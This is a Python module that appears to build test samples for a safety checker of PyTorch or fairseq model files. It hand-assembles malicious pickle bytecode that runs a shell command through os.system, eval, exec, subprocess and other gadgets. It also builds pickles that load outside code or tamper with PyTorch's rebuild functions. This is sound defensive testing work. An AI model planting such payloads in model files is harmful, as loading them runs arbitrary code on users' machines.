"""Pickles written by hand: programs that run a command where somebody lets them."""

import io
import pickle
import struct
import sys
import zipfile

import torch

MAGIC, VERSION = 0x1950A86A20F9469CFC6C, 1001
FOUR_NUMBERS = {"0": torch.ones(4).numpy().tobytes()}


def zipped(data: bytes, storages=None, *, prefix="archive/", compress=False) -> bytes:
    """Archive as PyTorch writes it, around a pickle."""
    buffer = io.BytesIO()
    kind = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(buffer, "w", kind) as archive:
        archive.writestr(f"{prefix}data.pkl", data)
        archive.writestr(f"{prefix}byteorder", sys.byteorder)
        for key, content in (storages or {}).items():
            archive.writestr(f"{prefix}data/{key}", content)
    return buffer.getvalue()


def old(data: bytes, storages=None) -> bytes:
    """File as PyTorch wrote it before, around a pickle; four bytes an element."""
    storages = storages or {}
    system = {"protocol_version": VERSION, "little_endian": True}
    parts = [pickle.dumps(part, 2) for part in (MAGIC, VERSION, system)]
    keys = pickle.dumps(list(storages), 2)
    numbers = [struct.pack("<q", len(one) // 4) + one for one in storages.values()]
    return b"".join([*parts, data, keys, *numbers])


WRAPPERS = {"zip": zipped, "old": old}


def text(value: str) -> bytes:
    """Instruction that loads a text."""
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def name(module: str, attribute: str) -> bytes:
    """Instruction that loads a class or function."""
    return f"c{module}\n{attribute}\n".encode()


def stacked(module: str, attribute: str) -> bytes:
    """The same with both names on the stack, as since protocol 4."""
    return text(module) + text(attribute) + b"\x93"


def called(function: bytes, *arguments: bytes) -> bytes:
    """Instructions that call a function."""
    return function + b"(" + b"".join(arguments) + b"tR"


def harmful(command: str) -> dict[str, bytes]:
    """Programs that run a command, each in its own way."""
    python = text(f"__import__('os').system({command!r})")
    command, system = text(command), name("os", "system")
    namespace = called(name("argparse", "Namespace"))
    nested = called(name("os", "system"), command) + b"."
    loads = text(nested.decode("latin1")) + text("latin1")
    mapped = name("builtins", "map") + b"(" + system + b"(" + command + b"lt\x81"
    imported = called(name("builtins", "__import__"), text("os"))
    return {
        "os.system": called(system, command) + b".",
        "posix.system": called(name("posix", "system"), command) + b".",
        "eval": called(name("builtins", "eval"), python) + b".",
        "exec": called(name("builtins", "exec"), python) + b".",
        "python 2's eval": called(name("__builtin__", "eval"), python) + b".",
        "stack_global": b"\x80\x04" + called(stacked("os", "system"), command) + b".",
        "dotted": b"\x80\x04"
        + called(stacked("builtins", "eval.__call__"), python)
        + b".",
        "getattr": called(
            called(name("builtins", "getattr"), imported, text("system")), command
        )
        + b".",
        "partial": called(called(name("functools", "partial"), system, command)) + b".",
        "obj": b"(" + system + command + b"o.",
        "inst": b"(" + command + b"ios\nsystem\n.",
        "newobj": name("builtins", "bytes") + b"(" + mapped + b"t\x81.",
        "build": namespace
        + b"}"
        + text("__setstate__")
        + system
        + b"sb"
        + command
        + b"b.",
        "nested": called(
            name("pickle", "loads"), called(name("_codecs", "encode"), loads)
        )
        + b".",
        "run": called(name("subprocess", "getoutput"), command) + b".",
        "profiler": called(name("profile", "run"), python) + b".",
        "timer": called(
            name("timeit", "timeit"),
            *(python, text("pass"), name("time", "perf_counter"), b"K\x01"),
        )
        + b".",
    }


def suspicious() -> dict[str, bytes]:
    """Programs that would load more code, or abuse PyTorch's own functions."""
    system, tensor = name("os", "system"), name("torch", "Tensor")
    outside = text("other.pt")
    return {
        "import": called(name("importlib", "import_module"), text("other")) + b".",
        "torch.load": called(name("torch", "load"), outside) + b".",
        "torch.jit": called(name("torch.jit", "load"), outside) + b".",
        "torch.hub": called(name("torch.hub", "load"), text("."), text("x")) + b".",
        "extension": called(name("torch.utils.cpp_extension", "load"), outside) + b".",
        "open": called(name("builtins", "open"), outside, text("w")) + b".",
        "rebuild by name": called(
            name("torch._tensor", "_rebuild_from_type_v2"),
            *(system, tensor, b"(" + outside + b"t", b"N"),
        )
        + b".",
        "rebuild by torch.load": called(
            name("torch._tensor", "_rebuild_from_type_v2"),
            *(name("torch", "load"), tensor, b"(" + outside + b"t", b"N"),
        )
        + b".",
        "rebuild what is registered": b"\x82\x01.",
        "wrapper": called(name("torch._utils", "_rebuild_wrapper_subclass")) + b".",
        "change a function": name("torch._utils", "_rebuild_tensor_v2")
        + b"N}"
        + text("__defaults__")
        + b"(tstb.",
        "change a class": name("collections", "OrderedDict")
        + b"}"
        + text("__init__")
        + b"Nsb.",
    }


def tensor_pickle(function: str, arguments: bytes, *, view=b"") -> bytes:
    """Pickle of a fairseq file with one tensor, made by a function of PyTorch.

    Parameters
    ----------
    function : str
        Of ``torch._utils``; it gets a storage of four elements.
    arguments : bytes
        Instructions that load what comes after the storage.
    view : bytes
        What older files have at the end of a reference.
    """
    reference = text("storage") + name("torch", "FloatStorage") + text("0")
    storage = b"(" + reference + text("cpu") + b"K\x04" + view + b"tQ"
    made = called(name("torch._utils", function), storage, arguments)
    model = b"}" + text("mask_emb") + made + b"s"
    return b"\x80\x02}" + text("model") + model + b"s" + text("cfg") + b"Ns."
